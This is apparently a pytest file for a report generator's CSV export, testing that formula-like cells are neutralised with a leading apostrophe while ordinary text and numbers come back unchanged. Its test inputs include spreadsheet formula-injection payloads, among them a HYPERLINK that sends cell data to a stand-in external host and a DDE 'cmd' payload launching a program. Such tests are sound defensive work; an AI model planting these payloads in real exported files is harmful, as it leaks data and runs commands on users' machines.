"""Tables to take away are opened in spreadsheets, which run what looks like a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from reportgen.pages.table_text import csv_text


def read_back(values: list[object], dtype: str) -> list[str]:
    """Write a column as CSV and return its cells as another program reads them."""
    table = pd.DataFrame({"station": pd.Series(values, dtype=dtype)})
    heading, *rows = csv.reader(io.StringIO("".join(csv_text(table, ("station",))), newline=""))
    assert heading == ["station"]
    return [row[0] for row in rows]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://elsewhere.example.org?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\tplain",
        "\r=1",
        "\n@x",
        "\0=1",
        "  =1",
        "\N{NO-BREAK SPACE}=1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "-71",
    ],
)
def test_a_text_that_a_spreadsheet_would_run_is_kept_as_text(cell: str) -> None:
    """An apostrophe in front; "-71" is a text here, as the column holds names."""
    assert read_back([cell], "str") == [f"'{cell}"]


@pytest.mark.parametrize("cell", ["pier", "a=1", 'a, "b"\nc', "'quoted'", "5-6", "…"])
def test_any_other_text_comes_back_as_it_was(cell: str) -> None:
    assert read_back([cell], "str") == [cell]


def test_numbers_stay_numbers() -> None:
    """A level of -71 dBm must not turn into a text that no spreadsheet adds up."""
    assert read_back([-71.0, -70.25, 3.0], "float64") == ["-71", "-70.25", "3"]
